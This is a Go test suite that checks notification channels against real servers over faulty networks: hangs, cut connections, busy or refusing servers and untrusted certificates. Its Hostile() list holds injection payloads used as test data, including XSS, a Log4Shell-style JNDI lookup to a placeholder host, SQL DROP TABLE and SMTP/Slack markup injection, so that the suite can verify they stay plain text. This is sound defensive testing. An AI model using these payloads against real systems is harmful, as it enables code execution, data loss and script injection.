// Package channeltest holds every notify.Channel to its contract, against a
// real far side that the channel's own test starts, and over networks that
// break. It must not know any channel.
package channeltest

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"muster/collector/notify"
	"muster/collector/notify/notifytest"
)

// World is a channel with its far side.
type World struct {
	// Server is host:port of the far side. The suite puts a relay before it.
	Server string
	// Channel sets one up for the far side that is reached at server.
	Channel func(server string) notify.Channel
	// Taken is all that the far side has taken, as it came, oldest first.
	Taken func() []string
	// Arrivals is how many entries of Taken a message makes; nil: one.
	Arrivals func(m notify.Message) int
	// Check parses entries of Taken as their receiver would and fails when
	// they do not tell what the message does, or tell something else.
	Check func(t *testing.T, taken []string, m notify.Message)

	// Busy and Refuse make the far side turn everything away, for now or for
	// good; nil: it cannot.
	Busy, Refuse func(on bool)
	// BusyFor is what it says about when to come back; 0: nothing.
	BusyFor time.Duration
	// Stranger sets up a channel that has no reason to trust the far side;
	// nil: there is nothing to trust by.
	Stranger func(server string) notify.Channel
	// Datagrams: the far side says nothing, so that no fault can be told.
	Datagrams bool
}

// Run tests a channel. open starts a far side that ends with the test.
func Run(t *testing.T, open func(t *testing.T) World) {
	w := &world{World: open(t), T: t}
	w.at = w.Server
	if !w.Datagrams {
		w.relay = NewRelay(t, w.Server)
		w.at = w.relay.Address()
	}
	for _, x := range []struct {
		name     string
		run      func(*world)
		datagram bool
	}{
		{"every kind of message arrives", testKinds, true},
		{"a repeat can be told", testRepeat, true},
		{"hostile text stays text", testHostile, true},
		{"much at once", testMuch, true},
		{"several at the same time", testParallel, true},
		{"a context that has ended", testEnded, true},
		{"nobody listens", testGone, false},
		{"a server that hangs", testDeaf, false},
		{"a connection that is cut", testTorn, false},
		{"a server that is busy", testBusy, false},
		{"a server that refuses", testRefuse, false},
		{"a server that nobody vouches for", testStranger, false},
	} {
		if w.Datagrams && !x.datagram {
			continue
		}
		t.Run(x.name, func(t *testing.T) {
			w.T = t
			if w.relay != nil {
				defer w.relay.Set(Fair)
			}
			x.run(w)
		})
	}
}

type world struct {
	World
	*testing.T
	relay *Relay
	at    string
}

func (w *world) send(c notify.Channel, m notify.Message) error {
	w.Helper()
	ctx, cancel := context.WithTimeout(w.Context(), 20*time.Second)
	defer cancel()
	return c.Send(ctx, m)
}

// arrives sends a message and checks what comes out.
func (w *world) arrives(c notify.Channel, m notify.Message) []string {
	w.Helper()
	before := len(w.Taken())
	if err := w.send(c, m); err != nil {
		w.Fatalf("%s: %v", m.Kind, err)
	}
	got := w.wait(before + w.arrivals(m))[before:]
	w.Check(w.T, got, m)
	return got
}

func (w *world) arrivals(m notify.Message) int {
	if w.Arrivals == nil {
		return 1
	}
	return w.Arrivals(m)
}

// wait waits until the far side has taken n, and a moment for more.
func (w *world) wait(n int) []string {
	w.Helper()
	deadline := time.Now().Add(15 * time.Second)
	for len(w.Taken()) < n && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	got := w.Taken()
	if len(got) != n {
		w.Fatalf("the far side has taken %d, want %d:\n%s", len(got), n, strings.Join(got, "\n---\n"))
	}
	return got
}

// fails sends a message that must not arrive.
func (w *world) fails(c notify.Channel, want ...notify.Fate) *notify.Failure {
	w.Helper()
	before := len(w.Taken())
	err := w.send(c, One("fails-"+strings.ReplaceAll(w.Name(), "/", "-")))
	var f *notify.Failure
	if !errors.As(err, &f) {
		w.Fatalf("it answered %v", err)
	}
	for _, fate := range want {
		if f.Fate == fate {
			if got := len(w.Taken()); got != before {
				w.Errorf("it failed with %v, and %d arrived", f, got-before)
			}
			return f
		}
	}
	w.Errorf("%v is %s, want %v", f, f.Fate, want)
	return f
}

// mends checks that the channel works once the trouble is over.
func (w *world) mends(c notify.Channel) {
	w.Helper()
	w.relay.Set(Fair)
	w.arrives(c, One("after-"+fmt.Sprint(len(w.Taken()))))
}

// One is a message about one incident.
func One(id string) notify.Message {
	at := time.Date(2026, 3, 4, 14, 5, 0, 0, time.UTC)
	a := notifytest.Announced("incident/142/opened/"+id, 142, notify.Opened, notify.Critical)
	a.At, a.Incident.OpenedAt = at, at
	return notify.Message{ID: id, Kind: notify.Notices, At: at, Notices: []notify.Notice{{Announcement: a}}, URL: "https://muster.example.org/incidents", Zone: "UTC", Attempt: 1}
}

// Many is as large as a message gets: thirty incidents in full, each on fifty
// machines, and a thousand that are only counted.
func Many(id string) notify.Message {
	m := One(id)
	first := m.Notices[0]
	m.Notices = nil
	for n := range 30 {
		one := first
		one.ID = fmt.Sprintf("incident/%d/opened/%s", n+1, id)
		one.Incident.Number = int64(n + 1)
		one.Incident.Title = strings.Repeat("long title ", 14)
		one.Incident.Meaning = strings.Repeat("What this means is explained at length. ", 25)
		one.Incident.DeviceCount = 120
		one.Incident.Devices = nil
		for d := range 50 {
			one.Incident.Devices = append(one.Incident.Devices, notify.Device{Name: fmt.Sprintf("pc-%d-%d-%s", n, d, strings.Repeat("n", 60)), Port: "sw-1 Gi1/0/1"})
		}
		m.Notices = append(m.Notices, one)
	}
	for n := range 1000 {
		m.Numbers = append(m.Numbers, int64(1000+n))
	}
	for n := range 50 {
		m.More = append(m.More, notify.Tally{Place: fmt.Sprintf("North / Site %d", n), Severity: notify.Warn, Count: 20})
	}
	return m
}

func testKinds(w *world) {
	c := w.Channel(w.at)
	m := One("kinds-1")
	w.arrives(c, m)
	m.ID, m.Notices[0].Kind, m.Notices[0].By, m.Notices[0].Note = "kinds-2", notify.Resolved, "ines", "drive replaced"
	m.Notices[0].Past = []notify.Step{{Kind: notify.Opened, At: m.At}}
	w.arrives(c, m)
	m = One("kinds-3")
	second := m.Notices[0]
	second.ID, second.Incident.Number, second.Incident.Severity = "incident/7/worse", 7, notify.Warn
	m.Notices = append(m.Notices, second)
	w.arrives(c, m)
	m.ID, m.Kind, m.Until = "kinds-4", notify.Storm, m.At.Add(time.Hour)
	w.arrives(c, m)
	line := notify.Waiting{Number: 9, Title: "Disk is full", Severity: notify.Warn, Place: "North / Hartford", Devices: "pc-9", OpenedAt: m.At, State: "claimed by ines", URL: "https://muster.example.org/incidents/9"}
	w.arrives(c, notify.Message{ID: "kinds-5", Kind: notify.Summary, At: m.At, Zone: "America/New_York", URL: m.URL,
		Digest: &notify.DigestLines{Since: m.At.Add(-24 * time.Hour), Opened: []notify.Waiting{line}, OpenedCount: 1, WaitingCount: 3, Waiting: []notify.Waiting{line, line},
			Unclaimed: 2, Backlog: []notify.Tally{{Severity: notify.Info, Count: 12}}}})
	w.arrives(c, notify.Message{ID: "kinds-6", Kind: notify.Summary, At: m.At, Digest: &notify.DigestLines{Since: m.At}})
	w.arrives(c, notify.Message{ID: "kinds-7", Kind: notify.Probe, At: m.At, URL: m.URL})
}

func testRepeat(w *world) {
	m := One("repeat-1")
	first := w.arrives(w.Channel(w.at), m)
	m.Attempt = 2
	second := w.arrives(w.Channel(w.at), m)
	for _, got := range append(first, second...) {
		if !strings.Contains(got, m.ID) && !strings.Contains(got, m.Notices[0].ID) {
			w.Errorf("neither the message's ID nor its announcement's is in\n%s", got)
		}
	}
}

// Hostile are texts as devices may send them, after notify has cleaned them:
// one line each, and yet markup of some kind or other.
func Hostile() []string {
	return []string{
		`<script>alert(1)</script><img src=x onerror=alert(1)>`,
		`"}],"text":"owned","attachments":[{"a":"`,
		`<!channel> <@U123> <https://evil.example|click> & &lt;`,
		`[click](https://evil.example) **bold** _x_ ~y~ # head`,
		`]" [evil@1 a="b"] \"]\\`,
		`{{.Secret}} ${jndi:ldap://evil} %s%n {{printf "%999999d" 1}}`,
		`=?utf-8?q?x?= , "a" <b@evil.example>; .`,
		`. QUIT`,
		`…ünïcode 漢字 🖨 ` + "\u00a0",
		"'; DROP TABLE incident; --",
	}
}

func testHostile(w *world) {
	c := w.Channel(w.at)
	for n, bad := range Hostile() {
		m := One(fmt.Sprintf("hostile-%d", n))
		bad = notify.Line(bad, 160)
		a := &m.Notices[0].Announcement
		i := &a.Incident
		i.Title, i.Cause, i.Agency, i.Site, i.Meaning, i.Escalate = bad, bad, bad, bad, bad, bad
		i.Checks, i.Evidence = []string{bad, bad}, []string{bad}
		i.Devices[0].Name, i.Devices[0].User, i.Devices[0].Port, i.Rule, i.Family = bad, bad, bad, bad, bad
		a.By, a.Note = bad, bad
		w.arrives(c, m)
	}
}

func testMuch(w *world) { w.arrives(w.Channel(w.at), Many("much-1")) }

func testParallel(w *world) {
	c := w.Channel(w.at)
	before := len(w.Taken())
	var wg sync.WaitGroup
	n := 0
	for i := range 8 {
		m := One(fmt.Sprintf("parallel-%d", i))
		n += w.arrivals(m)
		wg.Go(func() {
			if err := w.send(c, m); err != nil {
				w.Error(err)
			}
		})
	}
	wg.Wait()
	all := strings.Join(w.wait(before + n)[before:], "\n")
	for i := range 8 {
		if id := fmt.Sprintf("parallel-%d", i); !strings.Contains(all, id) {
			w.Errorf("%s is missing", id)
		}
	}
}

func testEnded(w *world) {
	ctx, cancel := context.WithCancel(w.Context())
	cancel()
	before := len(w.Taken())
	if err := w.Channel(w.at).Send(ctx, One("ended-1")); err == nil {
		w.Error("it sent")
	}
	w.wait(before)
}

func testGone(w *world) {
	c := w.Channel(w.at)
	w.relay.Set(Gone)
	w.fails(c, notify.Temporary)
	w.mends(c)
	// A port that nothing listens at.
	shut := NewRelay(w.T, w.Server)
	shut.l.Close()
	w.fails(w.Channel(shut.Address()), notify.Temporary)
}

func testDeaf(w *world) {
	c := w.Channel(w.at)
	w.relay.Set(Deaf)
	ctx, cancel := context.WithTimeout(w.Context(), 500*time.Millisecond)
	defer cancel()
	since := time.Now()
	err := c.Send(ctx, One("deaf-1"))
	var f *notify.Failure
	if !errors.As(err, &f) || f.Fate != notify.Temporary {
		w.Errorf("it answered %v", err)
	}
	if took := time.Since(since); took > 5*time.Second {
		w.Errorf("it took %s to give up", took)
	}
	w.mends(c)
}

func testTorn(w *world) {
	c := w.Channel(w.at)
	w.relay.Set(Torn)
	before := len(w.Taken())
	m := Many("torn-1") // longer than what the relay lets through
	err := w.send(c, m)
	var f *notify.Failure
	if !errors.As(err, &f) || f.Fate != notify.Temporary {
		w.Errorf("it answered %v", err)
	}
	for n := -1; n != len(w.Taken()); time.Sleep(300 * time.Millisecond) { // what is under way arrives
		n = len(w.Taken())
	}
	for _, got := range w.Taken()[before:] {
		w.Check(w.T, []string{got}, m) // whatever arrived is whole
	}
	w.mends(c)
}

func testBusy(w *world) {
	if w.Busy == nil {
		return // its far side has no way to say so
	}
	c := w.Channel(w.at)
	w.Busy(true)
	f := w.fails(c, notify.Temporary)
	w.Busy(false)
	if f.After != w.BusyFor {
		w.Errorf("it is to come back after %s, understood %s", w.BusyFor, f.After)
	}
	if f.Said == "" {
		w.Error("what the server said is lost")
	}
	w.mends(c)
}

func testRefuse(w *world) {
	if w.Refuse == nil {
		return
	}
	c := w.Channel(w.at)
	w.Refuse(true)
	f := w.fails(c, notify.Permanent, notify.Setup)
	w.Refuse(false)
	if f.Said == "" {
		w.Error("what the server said is lost")
	}
	w.mends(c)
}

func testStranger(w *world) {
	if w.Stranger == nil {
		return
	}
	f := w.fails(w.Stranger(w.at), notify.Setup)
	if !strings.Contains(f.Error(), "certificate") {
		w.Errorf("%v does not speak of a certificate", f)
	}
}
